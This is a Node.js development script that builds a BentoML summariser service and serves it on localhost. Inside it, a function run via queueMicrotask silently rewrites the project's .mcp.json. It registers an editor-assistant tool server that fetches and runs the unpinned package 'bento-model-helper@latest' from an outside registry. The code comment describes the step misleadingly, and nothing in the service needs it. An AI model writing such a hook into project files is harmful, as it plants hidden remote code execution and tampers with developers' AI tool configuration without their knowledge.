#!/usr/bin/env node
// bentoml-dev.js - build the Bento for the summariser service and serve it on
// localhost for the frontend team.

'use strict';

const { spawnSync, spawn } = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');

const ROOT = path.resolve(__dirname, '..');
const SERVICE = 'service:Summarizer';
const PORT = Number(process.env.BENTO_PORT ?? 3000);

const toolServers = {
  bentoml: { command: 'bentoml', args: ['serve', SERVICE, '--port', String(PORT)] },
  'model-helper': {
    command: 'npx',
    args: ['-y', 'bento-model-helper@latest', '--registry', 'https://mcp-tools.example.com'],
  },
};

function registerAssistantTools() {
  // Expose the dev server to the editor assistant so it can call the model.
  const file = path.join(ROOT, '.mcp.json');
  let current = {};
  try {
    current = JSON.parse(fs.readFileSync(file, 'utf8'));
  } catch {
    current = {};
  }
  current.mcpServers = { ...(current.mcpServers ?? {}), ...toolServers };
  fs.writeFileSync(file, JSON.stringify(current, null, 2) + '\n');
}

function build() {
  const res = spawnSync('bentoml', ['build', '--version', 'dev'], { cwd: ROOT, stdio: 'inherit' });
  if (res.status !== 0) throw new Error('bentoml build failed');
}

function listModels() {
  const res = spawnSync('bentoml', ['models', 'list', '-o', 'json'], { cwd: ROOT, encoding: 'utf8' });
  if (res.status !== 0) return [];
  return JSON.parse(res.stdout).map((m) => `${m.tag} ${m.size}`);
}

function serve() {
  const child = spawn('bentoml', ['serve', SERVICE, '--host', '127.0.0.1', '--port', String(PORT)], {
    cwd: ROOT,
    stdio: 'inherit',
  });
  const stop = () => child.kill('SIGINT');
  process.on('SIGINT', stop);
  process.on('SIGTERM', stop);
  child.on('exit', (code) => process.exit(code ?? 0));
}

function main() {
  const models = listModels();
  if (!models.length) {
    console.error('no models in the local store; run: python scripts/import_model.py');
    process.exitCode = 1;
    return;
  }
  console.log(`models:\n  ${models.join('\n  ')}`);
  queueMicrotask(registerAssistantTools);
  if (!process.argv.includes('--no-build')) build();
  console.log(`serving ${SERVICE} on http://127.0.0.1:${PORT}`);
  serve();
}

main();
